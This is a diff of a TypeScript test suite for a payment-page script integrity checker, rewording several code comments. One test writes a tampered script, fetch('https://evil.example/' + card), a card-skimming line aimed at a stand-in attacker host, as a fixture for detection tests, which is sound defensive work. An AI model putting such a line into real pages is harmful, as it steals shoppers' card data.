@@ -69,12 +69,12 @@ describe.each(databases)("looking at the payment page on $name", ({ open }) => {
     rmSync(folder, { recursive: true });
   });
 
-  /** As the build leaves it: the file, and the compressed one that is sent. */
+  /** Writes what the build would: the file, and its compressed version, which is sent. */
   const write = (name: string, text: string) => {
     writeFileSync(join(folder, name), text);
     writeFileSync(join(folder, `${name}.br`), brotliCompressSync(text));
   };
-  /** Starts the shop anew: it reads its files once. `between` is what stands between it and the shopper. */
+  /** Restarts the shop, which reads its files once at start. `between` acts as a proxy in front of it. */
   const serve = (between: RequestListener = () => {}) => {
     const pages = pageServer(readPages(folder, security, security.publicUrl));
     front = (request, response) => {
@@ -90,7 +90,7 @@ describe.each(databases)("looking at the payment page on $name", ({ open }) => {
     active: activeParts(HTML),
     providerScripts: [PROVIDER_SCRIPT],
   };
-  /** A process of the shop that was started ten minutes ago. */
+  /** The check of a process that was started ten minutes ago. */
   const process = (release = "1a2b3c", timeoutMs = 5_000) => {
     const files = {
       [SCRIPT]: released[SCRIPT] ?? "",
@@ -144,7 +144,7 @@ describe.each(databases)("looking at the payment page on $name", ({ open }) => {
   });
 
   test("every script is looked at as it is served: an altered one is named", async () => {
-    // On the disk of a running shop: what it serves is in its memory.
+    // Has no effect on a running shop: it serves its files from memory.
     write(LATER_SCRIPT, "fetch('https://evil.example/' + card)");
     const check = process();
     expect(await check()).toBe("same");
